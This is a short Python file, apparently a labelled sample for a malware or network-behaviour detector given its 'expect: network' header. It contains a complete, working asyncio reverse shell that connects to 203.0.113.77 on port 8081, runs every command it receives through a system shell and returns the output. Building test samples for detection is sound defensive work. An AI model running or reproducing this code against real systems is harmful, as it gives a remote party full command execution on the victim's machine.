# expect: network; asyncio reverse shell: open_connection to host:port, run each command received
import asyncio


async def main(host="203.0.113.77", port=8081):
    reader, writer = await asyncio.open_connection(host, port)
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(
            line.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()


asyncio.run(main())
